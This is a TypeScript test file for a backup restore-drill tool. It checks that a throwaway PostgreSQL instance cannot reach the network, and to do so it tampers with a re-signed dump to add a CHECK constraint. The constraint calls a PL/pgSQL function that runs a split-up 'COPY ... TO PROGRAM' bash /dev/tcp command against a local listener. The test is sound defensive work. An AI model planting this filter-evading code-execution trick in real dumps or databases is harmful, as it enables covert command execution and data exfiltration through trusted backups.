import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmod, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import type { RestoreDrillReport } from '../../workflows/index.js';
import { recordFault } from '../helpers/fault-matrix.js';
import { tamper, useRestoreStack } from '../helpers/restore-stack.js';
import { runWorkflow } from '../helpers/run-workflow.js';
import { tempDir } from '../helpers/setup.js';
import { tagPlanted } from '../helpers/trust.js';

// What a dump runs on the drill's throwaway PostgreSQL cannot reach the network. A dump this tool
// vouches for (tagged with the key, row counts too) carries server-side code the restore filter
// cannot recognise: a CHECK constraint whose PL/pgSQL function assembles `COPY … TO PROGRAM` from
// pieces inside EXECUTE, so it runs for every row COPY loads. The program tries a TCP listener this
// test started on 127.0.0.1 and writes how that went into a directory the test made world-writable.

const stack = useRestoreStack();

/** A TCP listener on 127.0.0.1 that counts the connections it accepts. */
async function listener(): Promise<{ port: number; connections: () => number; close: () => Promise<void> }> {
  let accepted = 0;
  const server = createServer((socket) => {
    accepted++;
    socket.destroy();
  });
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { port, connections: () => accepted, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** Before users' COPY: a function that runs a program reaching 127.0.0.1:port, called by a CHECK on every row. */
const reachOut = (port: number, out: string) => (sql: string) => {
  const at = sql.indexOf('COPY public.users ');
  assert.ok(at !== -1, 'the dump loads public.users with COPY');
  const program = `bash -c "echo hi > /dev/tcp/127.0.0.1/${port} && echo connected" >> ${out} 2>&1`;
  const probe = `CREATE FUNCTION public.drill_probe() RETURNS boolean
    LANGUAGE plpgsql
    AS $fn$
BEGIN
  EXECUTE 'CO' || 'PY (SELECT 1) TO PRO' || 'GRAM ' || quote_literal('${program}');
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END
$fn$;

ALTER TABLE public.users ADD CONSTRAINT drill_probe CHECK (public.drill_probe());

`;
  return sql.slice(0, at) + probe + sql.slice(at);
};

describe('faults: the drill\'s throwaway has no network', () => {
  test('server-side code in an authenticated dump runs during the drill\'s load but cannot connect to a listener on 127.0.0.1', async () => {
    const w = await stack.world({ drill: { runAs: 'nobody' } });
    const dump = await w.backup();
    const seen = await listener();
    stack.defer(() => seen.close());
    const evidence = await tempDir('drill-network');
    await chmod(evidence, 0o777); // the throwaway server runs as nobody
    stack.defer(() => rm(evidence, { recursive: true, force: true }));
    const out = join(evidence, 'attempt');
    // Same name, re-signed with its (unchanged) row counts: the newest authentic dump, drilled as ours.
    const rowsText = await readFile(join(w.backupDir, `${dump.file}.rows.json`), 'utf8');
    await tamper(w.backupDir, dump.file, reachOut(seen.port, out), dump.file, w.config);
    const sha256 = createHash('sha256').update(await readFile(join(w.backupDir, dump.file))).digest('hex');
    await tagPlanted(w.config, w.backupDir, dump.file, sha256, rowsText);

    const { report, error } = await runWorkflow<RestoreDrillReport>(stack.client, stack.temporal.address, w.config, 'RestoreDrill');
    assert.equal(error, undefined, String(error));
    assert.equal(report!.dump, dump.file);
    assert.equal(report!.engine, 'host');
    assert.equal(seen.connections(), 0, 'the test\'s listener on 127.0.0.1 received no connection');
    const attempt = await readFile(out, 'utf8').catch(() => '');
    assert.match(attempt, /Network is unreachable/, `the program ran during the load and could not connect (it wrote: ${JSON.stringify(attempt)})`);
    assert.doesNotMatch(attempt, /^connected$/m);
    await recordFault('an authenticated dump whose CHECK constraint runs COPY … TO PROGRAM (assembled inside EXECUTE) reaching a TCP listener on 127.0.0.1 while the drill loads it', 'the program ran as nobody in the throwaway\'s network namespace: "Network is unreachable", the listener received no connection; the drill went on');
  });
});
